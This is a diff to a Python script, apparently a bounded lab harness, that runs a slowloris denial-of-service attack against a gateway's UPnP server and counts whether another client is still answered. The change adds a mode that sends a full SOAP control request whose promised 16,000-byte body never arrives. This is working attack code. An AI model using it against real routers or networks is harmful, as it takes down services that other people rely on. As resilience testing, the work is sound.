@@ -1,7 +1,8 @@
 """Run inside a LAN host namespace: attack the gateway's UPnP server from many addresses and
 count what one other address still gets. Standard library only; prints one JSON line.
 
-    python upnp_attack.py slowloris GATEWAY CLIENT ATTACKER... --per-address 8 --rounds 40
+    python upnp_attack.py slowloris GATEWAY CLIENT ATTACKER... --per-address 8 --rounds 40 \
+        --half head|body
     python upnp_attack.py garbage GATEWAY CLIENT --datagrams 2000 --requests 200
 
 Every loop is bounded (rounds, counts, timeouts) and ends by itself; traffic goes only to
@@ -79,8 +80,8 @@ async def ask(gateway: str, port: int, control: str, client: str) -> bool:
     return answer.startswith(b"HTTP/1.1 200") and b"NewExternalIPAddress" in answer
 
 
-async def hold(gateway: str, port: int, address: str, held: list[int]) -> None:
-    """One slot of the attack: half a request head, sent again as soon as it is closed."""
+async def hold(gateway: str, port: int, address: str, prefix: bytes, held: list[int]) -> None:
+    """One slot of the attack: half a request, sent again as soon as it is closed."""
     while True:
         try:
             reader, writer = await asyncio.open_connection(gateway, port, local_addr=(address, 0))
@@ -89,7 +90,7 @@ async def hold(gateway: str, port: int, address: str, held: list[int]) -> None:
             continue
         held[0] += 1
         try:
-            writer.write(f"GET / HTTP/1.1\r\nHost: {gateway}:{port}\r\nX-Slow: ".encode())
+            writer.write(prefix)
             await reader.read()
         except OSError:
             pass
@@ -101,9 +102,17 @@ async def hold(gateway: str, port: int, address: str, held: list[int]) -> None:
 
 async def slowloris(args: argparse.Namespace) -> dict[str, int]:
     port, control = discover(args.gateway, args.client)
+    host = f"Host: {args.gateway}:{port}\r\n"
+    if args.half == "head":
+        prefix = f"GET / HTTP/1.1\r\n{host}X-Slow: ".encode()
+    else:  # a complete control request whose body never comes
+        prefix = (
+            f"POST {control} HTTP/1.1\r\n{host}Content-Type: text/xml\r\n"
+            f'SOAPACTION: "{WANIP2}#GetExternalIPAddress"\r\nContent-Length: 16000\r\n\r\n<?xml'
+        ).encode()
     held = [0]
     attack = [
-        asyncio.create_task(hold(args.gateway, port, address, held))
+        asyncio.create_task(hold(args.gateway, port, address, prefix, held))
         for address in args.attackers
         for _ in range(args.per_address)
     ]
@@ -159,6 +168,7 @@ def main() -> None:
     parser.add_argument("client")
     parser.add_argument("attackers", nargs="*")
     parser.add_argument("--per-address", type=int, default=8)
+    parser.add_argument("--half", choices=["head", "body"], default="head")
     parser.add_argument("--rounds", type=int, default=40)
     parser.add_argument("--settle", type=float, default=2.0)
     parser.add_argument("--datagrams", type=int, default=2000)
